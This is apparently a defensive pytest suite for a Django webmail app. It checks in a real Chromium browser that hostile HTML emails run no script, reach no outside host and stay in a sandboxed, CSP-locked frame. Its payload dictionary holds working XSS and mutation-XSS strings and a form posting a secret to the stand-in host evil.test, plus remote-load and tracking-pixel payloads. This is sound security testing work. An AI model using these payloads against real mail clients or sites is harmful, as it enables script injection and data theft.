"""Hostile HTML mail in a real browser: no script runs, nothing leaves for another host
before consent, and the message stays inside its sandboxed, CSP-locked frame.

Each payload is stored as a real message (raw bytes through ingest) and opened through
the web UI's message page (the body frame inside it) in Debian's chromium. Every
request the page or its frames make is recorded and any to a host other than the live
server is aborted (so a miss is recorded, never sent). Payloads signal success by
alert(), by navigating or by loading from evil.test.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from accounts.models import User
from tests.conftest import make_account, make_user
from webmail.mail import body
from webmail.mail.ingest import store_full_message
from webmail.mail.models import Folder, Message

pytestmark = pytest.mark.django_db(transaction=True)

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]

_uids = count(1)

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script_in_odd_casing": "<ScRiPt>alert(1)</sCrIpT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror_odd_casing": "<IMG SRC=x OnErRoR=alert(1)>",
    "onerror_entities": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "onerror_slash_separated": "<img/src=x/onerror=alert(1)>",
    "body_onload": "<body onload=alert(1)>hi</body>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "autofocus_onfocus": "<input autofocus onfocus=alert(1)><a href=# onfocus=alert(1) "
                         "tabindex=1 autofocus>x</a>",
    "javascript_link": '<a id=p href="javascript:alert(1)">click</a>',
    "javascript_link_entities": '<a href="jav&#x61;script&colon;alert(1)">x</a>'
                                '<a href="&#106;avascript:alert(1)">y</a>',
    "javascript_link_whitespace": '<a href=" java\tscript:alert(1)">x</a>',
    "data_link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data_image_svg": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg_animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>",
    "svg_use_remote": '<svg><use href="http://evil.test/sprite.svg#a"/></svg>',
    "mathml_link": '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">'
                   "x</maction></math>",
    "mxss_math_style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mxss_noscript_title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss_form_math": "<form><math><mtext></form><form><mglyph><style></math>"
                      "<img src onerror=alert(1)>",
    "mxss_svg_p": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "iframe_javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe_remote": '<iframe src="http://evil.test/frame"></iframe>',
    "frameset": '<frameset><frame src="http://evil.test/frame"></frameset>',
    "object_embed": '<object data="http://evil.test/x.swf"></object>'
                    '<embed src="http://evil.test/x.swf">',
    "form": '<form action="http://evil.test/steal" method=post><input name=p value=secret>'
            "<button id=go>Log in</button></form>",
    "base_href": '<base href="http://evil.test/"><img src="relative.png"><a href="rel">x</a>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
    "link_stylesheet": '<link rel=stylesheet href="http://evil.test/style.css">',
    "css_import": "<style>@import url(http://evil.test/import.css);</style>",
    "css_background": '<div style="background:url(http://evil.test/bg.png);height:20px">x'
                      "</div><style>p{background-image:url('//evil.test/p.png')}</style><p>y</p>",
    "css_expression": '<div style="width:expression(alert(1));behavior:url(x.htc)">x</div>',
    "css_escaped_url": r'<div style="background:u\72l(http://evil.test/esc.png)">x</div>',
    "css_overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
                   'z-index:99999;background:red">PHISH</div>'
                   "<style>.o{position:absolute;top:-500px}</style><div class=o>up</div>",
    "tracking_pixel": '<img src="http://evil.test/open.gif?u=alice" width=1 height=1>'
                      '<img src="https://evil.test/hidden.png" style="display:none">',
    "remote_images": '<img src="http://evil.test/banner.png">'
                     '<img srcset="http://evil.test/a.png 2x">'
                     '<picture><source srcset="http://evil.test/p.png"><img src="x.png">'
                     '</picture><video poster="http://evil.test/v.png"></video>'
                     '<table background="http://evil.test/t.png"><tr><td>t</td></tr></table>',
    "template_and_textarea": "<template><script>alert(1)</script></template>"
                             "<textarea><script>alert(1)</script></textarea>",
    "xmp_plaintext": "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
}


def raw_html(html: str) -> bytes:
    return (
        "From: Mallory <mallory@evil.test>\r\nTo: alice@mail.example.test\r\n"
        "Subject: Hostile\r\nMessage-ID: <hostile@evil.test>\r\n"
        "Date: Mon, 2 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nplain\r\n"
        "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"<html><head><title>t</title></head><body><p id=marker>Hello</p>{html}</body></html>"
        "\r\n--b--\r\n"
    ).encode()


@dataclass
class Watch:
    """What a page did: dialogs, every request URL, and what was aborted for leaving."""

    origin: str
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    popups: list[str] = field(default_factory=list)


@pytest.fixture(scope="session")
def chromium(request: pytest.FixtureRequest) -> Iterator[Any]:
    # One Playwright per process: its sync API refuses to start inside a running one,
    # so the browser suite's shared fixture is used when there is one.
    try:
        yield request.getfixturevalue("browser")
        return
    except pytest.FixtureLookupError:
        pass
    if not CHROMIUM.exists():
        pytest.skip("hostile HTML tests need Debian's chromium at /usr/bin/chromium")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("hostile HTML tests need the playwright package (requirements-dev.txt)")
    # Playwright's sync API runs an event loop in this thread; the ORM calls the tests
    # make between browser steps are still synchronous and safe.
    previous = os.environ.get("DJANGO_ALLOW_ASYNC_UNSAFE")
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM),
                                                 args=CHROMIUM_ARGS)
            try:
                yield browser
            finally:
                browser.close()
    finally:
        if previous is None:
            os.environ.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)
        else:
            os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = previous


@pytest.fixture
def reader(alice_with_session: tuple[User, str], chromium: Any,
           live_server: Any) -> Iterator[tuple[Any, Watch, User]]:
    person, session = alice_with_session
    origin = live_server.url
    context = chromium.new_context(viewport={"width": 1000, "height": 700})
    context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session,
                          "url": origin}])
    watch = Watch(origin=origin)

    def route(route: Any) -> None:
        url = route.request.url
        watch.requests.append(url)
        parts = urlsplit(url)
        if f"{parts.scheme}://{parts.netloc}" != origin and parts.scheme not in {"data", "about"}:
            watch.foreign.append(url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", route)
    page = context.new_page()
    page.set_default_timeout(10_000)

    def on_dialog(dialog: Any) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    context.on("page", lambda popup: watch.popups.append(popup.url))
    try:
        yield page, watch, person
    finally:
        context.close()


@pytest.fixture
def alice_with_session(transactional_db: None) -> tuple[User, str]:
    person = make_user("alice")
    client = Client()
    client.force_login(person)
    return person, client.cookies[settings.SESSION_COOKIE_NAME].value


def store(person: User, html: str) -> Message:
    account = make_account(person)
    folder, _ = Folder.objects.get_or_create(account=account, name="INBOX",
                                             defaults={"role": "inbox"})
    message = Message(account=account, folder=folder, uidvalidity=1, uid=next(_uids))
    message.save()
    store_full_message(message, raw_html(html))
    return message


def open_message(page: Any, watch: Watch, message: Message) -> Any:
    page.goto(watch.origin + reverse("message", args=[message.pk]))
    frame_element = page.wait_for_selector("iframe.body-frame")
    frame = frame_element.content_frame()
    frame.wait_for_load_state("load")
    frame.wait_for_selector("#marker", state="attached")
    page.wait_for_timeout(300)  # let timers, animations and autofocus fire
    return frame_element


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_hostile_html_runs_nothing_and_reaches_no_other_host(
    reader: tuple[Any, Watch, User], name: str
) -> None:
    page, watch, person = reader
    message = store(person, PAYLOADS[name])

    frame_element = open_message(page, watch, message)
    frame = frame_element.content_frame()
    for link in frame.query_selector_all("a, button"):
        try:
            link.click(no_wait_after=True, timeout=2_000, force=True)
        except Exception as exc:  # noqa: BLE001 - the frame may reload under a click
            # A click that reloads our own frame (the "Show images" link) detaches the
            # other handles; where the frame went is asserted below.
            if "context" not in str(exc) and "detached" not in str(exc):
                raise
    page.wait_for_timeout(300)

    assert watch.dialogs == []
    assert watch.foreign == []
    assert watch.popups in ([], ["about:blank"])  # a blank popup at most, never a site
    assert page.url.startswith(watch.origin)
    assert frame.url.startswith(watch.origin + reverse("message_body", args=[message.pk]))


def test_the_body_frame_is_sandboxed_and_served_with_a_strict_csp(
    reader: tuple[Any, Watch, User],
) -> None:
    page, watch, person = reader
    message = store(person, PAYLOADS["script"])

    frame_element = open_message(page, watch, message)
    sandbox = (frame_element.get_attribute("sandbox") or "").split()
    response = page.request.get(watch.origin + reverse("message_body", args=[message.pk]))
    csp = response.headers["content-security-policy"]

    assert frame_element.get_attribute("sandbox") is not None
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    assert "default-src 'none'" in csp
    assert "script-src" not in csp  # falls back to default-src 'none'


def test_an_overlay_cannot_cover_the_page_outside_its_frame(
    reader: tuple[Any, Watch, User],
) -> None:
    page, watch, person = reader
    message = store(person, PAYLOADS["css_overlay"])

    frame_element = open_message(page, watch, message)
    box = frame_element.bounding_box()
    assert box is not None
    # A point of the page outside the frame's box belongs to the page, not to the mail.
    outside = page.evaluate(
        "([x, y]) => { const e = document.elementFromPoint(x, y); "
        "return e ? e.tagName : null; }",
        [max(0, box["x"] - 5), max(0, box["y"] - 5)],
    )
    assert outside not in (None, "IFRAME")
    frame = frame_element.content_frame()
    positions = frame.evaluate(
        "() => [...document.querySelectorAll('div')].map(d => getComputedStyle(d).position)"
    )
    assert "fixed" not in positions and "absolute" not in positions


def test_the_body_opened_on_its_own_still_runs_nothing(
    reader: tuple[Any, Watch, User],
) -> None:
    page, watch, person = reader
    message = store(person, PAYLOADS["onerror"] + PAYLOADS["svg_onload"] + PAYLOADS["script"])

    page.goto(watch.origin + reverse("message_body", args=[message.pk]))
    page.wait_for_selector("#marker", state="attached")
    page.wait_for_timeout(300)

    assert watch.dialogs == []
    assert watch.foreign == []


def test_showing_images_loads_them_only_through_our_proxy(
    reader: tuple[Any, Watch, User],
) -> None:
    page, watch, person = reader
    message = store(person, PAYLOADS["remote_images"] + PAYLOADS["tracking_pixel"]
                    + PAYLOADS["css_background"])

    open_message(page, watch, message)
    frame = page.frame_locator("iframe.body-frame")
    frame.get_by_role("link", name="Show images", exact=True).click()
    page.wait_for_timeout(500)

    proxied = [
        body.read_proxy_target(parse_qs(urlsplit(url).query)["u"][0])
        for url in watch.requests if "/image/" in url
    ]
    assert watch.foreign == []
    assert all(url.startswith(watch.origin) for url in watch.requests)
    assert "http://evil.test/banner.png" in proxied  # shown, through our proxy
    # Tracking pixels are not even asked of our proxy.
    assert not [url for url in proxied if url and ("open.gif" in url or "hidden.png" in url)]


def test_the_watch_sees_what_unprotected_html_would_do(
    reader: tuple[Any, Watch, User],
) -> None:
    # The control: the same payloads without sanitizer, sandbox or CSP do fire, so the
    # assertions above are not passing for want of a working probe.
    page, watch, _ = reader
    page.goto("about:blank")
    page.set_content(PAYLOADS["onerror"] + PAYLOADS["remote_images"])
    page.wait_for_timeout(300)

    assert watch.dialogs == ["1"]
    assert any(url.startswith("http://evil.test/") for url in watch.foreign)
